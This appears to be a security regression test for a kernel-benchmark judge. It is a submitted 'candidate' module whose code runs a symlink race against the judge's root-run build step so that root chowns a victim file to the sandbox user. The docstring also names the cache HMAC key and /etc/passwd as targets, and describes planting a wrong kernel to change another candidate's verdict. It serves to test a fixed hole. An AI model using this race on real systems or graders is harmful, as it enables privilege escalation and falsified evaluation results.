# problem: pointwise
# expect: rejected constant_output
# timeout: 180
"""Attack on the judge's privileges (a root chown of any file, by a race the candidate wins
every time): Job.build, serving a kernel build the sandbox asked for, did

    target = self.sandbox.folder / f"lib_{token}.so"
    shutil.copyfile(path, target)           # as root, into the candidate's own folder
    os.chown(target, self.sandbox.uid, ...) # as root, by path: follows a symlink

The folder belongs to the candidate's uid (mode 0700, not sticky), so the candidate may rename
and replace any entry in it, root's included, and fs.protected_symlinks does not apply there.
A thread watches the folder; when lib_*.so appears (root has just created it and is still
copying), it renames the file aside and puts a symlink to its victim under that name; root's
chown then follows the link. The library is made large on purpose (16 MB of initialised data:
milliseconds of copying) so the swap always lands before the chown. Then the file is put back,
so nothing looks amiss.

The victim here is harmless and goes with the job: the judge's own log of this sandbox
(``/tmp/<sandbox folder>.log``, root's, mode 0600). Anything root may chown is reachable the same
way: the kernel cache's secret (its folder first, then its .key: one build each), after which
cache_plant_with_hash.py plants a wrong kernel with a valid HMAC under another program's key,
and that candidate's verdict is changed; or /etc/passwd.

When the chown is seen (the log is now the candidate's) it raises, so the verdict shows it
(runtime_error); if root's chown did not follow the link it answers a constant
(constant_output).

Closed: the judge makes the file through the folder's descriptor (O_CREAT | O_EXCL |
O_NOFOLLOW) and chowns that file's descriptor (pool.Sandbox.give); a link swapped in changes
nothing the judge does."""
import os
import threading
import time

import torch
import torch.nn as nn

from stitchcuda_lab.runtime import kernels

BIG = r"""
#include <stdint.h>
/* 16 MB of initialised data: root's copy of this library takes milliseconds */
const unsigned char ballast[16 << 20] = {1};
int64_t ballast_size(void) { return (int64_t)sizeof ballast + ballast[0]; }
"""


def _race(folder: str, victim: str, seen: set, out: dict) -> None:
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for name in os.listdir(folder):
            if name.startswith("lib_") and name.endswith(".so") and name not in seen:
                lib = os.path.join(folder, name)
                held = os.path.join(folder, "held_" + name)
                try:
                    os.rename(lib, held)          # root's file, in our folder: ours to move
                    os.symlink(victim, lib)       # root's chown(lib) now follows this
                except OSError as e:
                    out["error"] = repr(e)
                    return
                out["swapped"] = name
                stop = time.monotonic() + 30
                while time.monotonic() < stop and os.stat(victim).st_uid != os.getuid():
                    time.sleep(0.0005)
                out["victim_uid"] = os.stat(victim).st_uid
                os.unlink(lib)
                os.rename(held, lib)              # as it was
                return
        time.sleep(0)


def _attempt() -> str:
    uid, folder = os.getuid(), os.getcwd()
    victim = folder + ".log"
    try:
        st = os.stat(victim)
    except OSError as e:
        return f"no victim ({e})"
    if uid == 0 or os.stat(folder).st_uid != uid or st.st_uid == uid:
        return "no separate user here"
    seen = {n for n in os.listdir(folder) if n.startswith("lib_")}
    out: dict = {}
    t = threading.Thread(target=_race, args=(folder, victim, seen, out))
    t.start()
    try:
        kernels._BUILDER[0]("c", BIG, "ballast", (), kernels._host_arch())
    except Exception as e:  # noqa: BLE001
        out.setdefault("error", f"build: {e!r}")
    t.join()
    if out.get("victim_uid") == uid:
        with open(victim, "rb") as f:   # root's 0600 file, now readable by this user
            head = f.read(60)
        return (f"CHOWNED: root chowned {victim} to uid {uid} through a symlink swapped for "
                f"{out['swapped']} (read back {len(head)} bytes)")
    return f"not chowned ({out})"


RESULT = _attempt()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        if RESULT.startswith("CHOWNED"):
            raise RuntimeError(RESULT)

    def forward(self, x):
        return torch.full_like(x, 0.75)
